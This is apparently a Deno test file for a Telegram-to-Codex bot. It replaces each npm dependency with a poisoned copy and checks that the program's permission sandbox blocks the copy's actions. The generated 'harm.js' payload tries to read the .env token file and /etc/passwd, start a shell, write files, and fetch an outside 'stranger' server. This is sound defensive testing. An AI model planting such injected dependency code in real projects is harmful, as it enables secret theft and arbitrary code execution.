/**
 * A dependency with a line of somebody else's in it: each library that the program loads is replaced
 * by a copy that also tries to do harm, in whichever part of the program loads it. It gets nowhere.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { z } from "zod";
import manifest from "../../deno.json" with { type: "json" };
import { startBotApiServer } from "../../src/demo/bot_api/server.ts";
import { denoFolder } from "../support/deno_folder.ts";
import { temporaryFolder } from "../support/temporary_folder.ts";
import { writeProgram } from "../support/write_program.ts";

const TOKEN = "7000000001:AAbbCCddEEffGGhhIIjjKKllMMnnOOppQQr";
const ROOT = new URL("../../", import.meta.url);
const DEADLINE_MS = 60_000;

const report = z.object({
  name: z.string(),
  part: z.string(),
  outcomes: z.record(z.string(), z.string()),
  sawToken: z.boolean(),
});
type Report = z.infer<typeof report>;

Deno.test("a poisoned copy of each dependency does no harm, in no part of the program", async () => {
  await using folder = await temporaryFolder();
  await using telegram = await startedBotApi();
  let caught = 0;
  await using stranger = Deno.serve(
    { port: 0, hostname: "127.0.0.1", onListen: () => {} },
    () => (caught++, new Response("thanks")),
  );
  const home = folder.path;
  const state = join(home, ".codex-orchestrator");
  await Deno.mkdir(state);
  await Deno.writeTextFile(join(state, ".env"), `TELEGRAM_BOT_TOKEN=${TOKEN}\n`);
  await writeProgram(
    join(home, "codex"),
    `#!/bin/sh\necho x >"${home}/harm-codex"\nexec sleep 1\n`,
  );
  await Deno.writeTextFile(join(state, "conf.toml"), confOf(telegram.url, home));
  const names = await poison(home, `http://127.0.0.1:${stranger.addr.port}`);
  const told = (reports: readonly Report[]): boolean =>
    names.every((wanted) =>
      reports.some(({ name, part }) => name === wanted && part === "application")
    );
  const reports = await reportsOf(home, { until: told });
  for (const name of names) assert.ok(reports.some((each) => each.name === name), `${name} ran`);
  assert.deepEqual(partsOf(reports), ["application", "configuration"]);
  // What the next start loads ahead, with the permissions of this one, is in no better place.
  assert.ok((await Deno.stat(join(state, "last-permissions.json"))).isFile);
  reports.push(...await reportsOf(home, { until: told }));
  // Where tracing may be on, the command line is understood in the worker of all commands.
  const others = await reportsOf(home, {
    variables: { OTEL_SERVICE_NAME: "bot" },
    until: (told) => told.some(({ part }) => part === "command"),
  });
  assert.ok(partsOf(others).includes("command"));
  reports.push(...others);
  for (const { name, part, outcomes, sawToken } of reports) {
    for (const [what, outcome] of Object.entries(outcomes)) {
      assert.match(outcome, /^NotCapable|^TypeError: Requires/, `${name} in ${part}: ${what}`);
    }
    // What reads conf.toml and understands the command line is not even told the token.
    if (part !== "application") assert.equal(sawToken, false, name);
  }
  assert.equal(caught, 0);
  const left = (await Array.fromAsync(Deno.readDir(home))).map((entry) => entry.name);
  assert.deepEqual(left.filter((name) => name.startsWith("harm")), []);
});

function partsOf(reports: readonly Report[]): readonly string[] {
  return [...new Set(reports.map(({ part }) => part))].sort();
}

async function startedBotApi(): Promise<AsyncDisposable & { readonly url: string }> {
  const server = await startBotApiServer({ token: TOKEN });
  return { url: server.url, [Symbol.asyncDispose]: () => server.close() };
}

function confOf(api: string, home: string): string {
  return `[telegram]
allowed_users = [1]
api_root = "${api}"
[codex]
backend = "echo"
command = "${home}/codex"
agent_working_directory = "${home}"
`;
}

/** Writes the copies and an import map that leads to them. @returns the packages */
async function poison(home: string, stranger: string): Promise<readonly string[]> {
  const place = join(home, "poison");
  await Deno.mkdir(place);
  const imports: Record<string, string> = {};
  const known = Object.entries(manifest.imports);
  const packages = new Set<string>();
  for (const specifier of await specifiersIn(ROOT)) {
    const [name, real] = known.find(([key]) =>
      specifier === key || specifier.startsWith(`${key}/`)
    ) ??
      [];
    if (name === undefined || real === undefined || specifier.endsWith("/types")) continue;
    const file = join(place, `${specifier.replaceAll("/", "_")}.js`);
    const original = `${real}${specifier.slice(name.length)}`;
    await Deno.writeTextFile(
      file,
      `export * from "${original}";\nimport { harm } from "./harm.js";\nawait harm(${
        JSON.stringify(name)
      });\n`,
    );
    imports[specifier] = pathToFileURL(file).href;
    packages.add(name);
  }
  const harm = harmOf(home, stranger, Object.values(imports));
  await Deno.writeTextFile(join(place, "harm.js"), harm);
  // The versions that are installed.
  await Deno.copyFile(new URL("deno.lock", ROOT), join(place, "deno.lock"));
  const config = {
    ...manifest,
    lock: { path: "deno.lock", frozen: false },
    imports: { ...manifest.imports, ...imports },
  };
  await Deno.writeTextFile(join(place, "deno.json"), JSON.stringify(config));
  return [...packages];
}

/** What the program imports from npm when it runs. */
async function specifiersIn(root: URL): Promise<ReadonlySet<string>> {
  const { stdout } = await new Deno.Command(Deno.execPath(), {
    args: ["info", "--json", "src/supervisor/bot_worker.ts"],
    cwd: fileURLToPath(root),
  }).output();
  const { modules } = JSON.parse(new TextDecoder().decode(stdout));
  const found = new Set<string>(["@optique/core/facade", "@optique/core/message", "smol-toml"]);
  for (const { dependencies = [] } of modules) {
    for (const { specifier, code } of dependencies) {
      if (code !== undefined && !/^(?:\.|node:|file:)/.test(specifier)) found.add(specifier);
    }
  }
  return found;
}

/**
 * The added line: tries all of it at once, when it is loaded, and listens to what its part is told. It
 * loads the copies that the application would load later, too.
 */
function harmOf(home: string, stranger: string, copies: readonly string[]): string {
  const paths = {
    env: `${home}/.codex-orchestrator/.env`,
    conf: `${home}/.codex-orchestrator/conf.toml`,
    harm: `${home}/harm`,
    codex: `${home}/codex`,
  };
  return `
const paths = ${JSON.stringify(paths)};
const tries = {
  "read .env": () => Deno.readTextFile(paths.env),
  "read conf.toml": () => Deno.readTextFile(paths.conf),
  "write conf.toml": () => Deno.writeTextFile(paths.conf, "", { append: true }),
  "write outside": () => Deno.writeTextFile(paths.harm, "x"),
  "read passwords": () => Deno.readTextFile("/etc/passwd"),
  "start a shell": () => new Deno.Command("/bin/sh", { args: ["-c", "echo x >" + paths.harm] }).output(),
  "start Codex": () => new Deno.Command(paths.codex).output(),
  "call home": () => fetch(${JSON.stringify(stranger)}),
  "read the token's variable": () => Deno.env.get("TELEGRAM_BOT_TOKEN"),
  "start a worker that may": () => new Worker("data:application/javascript,", { type: "module", deno: { permissions: { run: true } } }),
};
const part = ["command", "configuration"].includes(self.name) ? self.name : "application";
if (part === "application") {
  setTimeout(() => {
${copies.map((copy) => `    void import(${JSON.stringify(copy)}).catch(() => {});`).join("\n")}
  });
}
let sawToken = false;
const tried = [];
if (typeof self.addEventListener === "function") {
  self.addEventListener("message", ({ data }) => {
    const seen = JSON.stringify(data, (_key, value) => value instanceof Map ? [...value] : value) ?? "";
    if (seen.includes(${JSON.stringify(TOKEN)})) sawToken = true;
    // This part ends when it has answered.
    if (data?.type === "read") { for (const each of tried) tell(each.name, each.outcomes); }
  });
}
export function harm(name) {
  const trying = attempts(name);
  // The part that reads conf.toml is not ready before everything was tried.
  return part === "application" ? undefined : trying;
}
async function attempts(name) {
  const outcomes = {};
  for (const [what, attempt] of Object.entries(tries)) {
    try { await attempt(); outcomes[what] = "done"; } catch (error) { outcomes[what] = error.name + ": " + error.message; }
  }
  if (part === "application") setTimeout(() => tell(name, outcomes), 300);
  else tried.push({ name, outcomes });
}
function tell(name, outcomes) {
  const line = "POISON " + JSON.stringify({ name, part, outcomes, sawToken }) + "\\n";
  Deno.stdout.writeSync(new TextEncoder().encode(line));
}
`;
}

interface Watched {
  readonly variables?: Readonly<Record<string, string>>;
  /** Whether enough was told. */
  readonly until: (reports: readonly Report[]) => boolean;
}

/** Starts the program, and stops it once it has told enough. */
async function reportsOf(home: string, { variables = {}, until }: Watched): Promise<Report[]> {
  const [, , ...flags] = manifest.tasks.start.command.split(" ").slice(0, -1);
  const config = join(home, "poison", "deno.json");
  const child = new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "--config",
      config,
      ...flags,
      fileURLToPath(new URL("main.ts", ROOT)),
    ],
    cwd: home,
    clearEnv: true,
    env: {
      ...networkVariables(),
      ...{ HOME: home, PATH: "/usr/bin:/bin", DENO_DIR: denoFolder() },
      ...variables,
    },
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const deadline = setTimeout(() => child.kill("SIGKILL"), DEADLINE_MS);
  const reports: Report[] = [];
  let isStopped = false;
  let text = "";
  for await (const part of child.stdout.pipeThrough(new TextDecoderStream())) {
    text += part;
    const lines = text.split("\n");
    text = lines.pop() ?? "";
    for (const line of lines.filter((each) => each.startsWith("POISON "))) {
      reports.push(report.parse(JSON.parse(line.slice("POISON ".length))));
    }
    if (!isStopped && until(reports)) {
      isStopped = true;
      child.kill("SIGTERM");
    }
  }
  clearTimeout(deadline);
  const errors = await new Response(child.stderr).text();
  const { code } = await child.status;
  assert.equal(code, 0, `${errors}\n${JSON.stringify(reports)}`);
  return reports;
}

/** What Deno needs where it asks npm which versions there are: other imports have another lock. */
function networkVariables(): Record<string, string> {
  const names = [
    "NODE_EXTRA_CA_CERTS",
    "SSL_CERT_FILE",
    "DENO_TLS_CA_STORE",
    "NPM_CONFIG_REGISTRY",
  ];
  return Object.fromEntries(names.flatMap((name) => {
    const value = Deno.env.get(name) ?? Deno.env.get(name.toLowerCase());
    return value === undefined ? [] : [[name, value]];
  }));
}
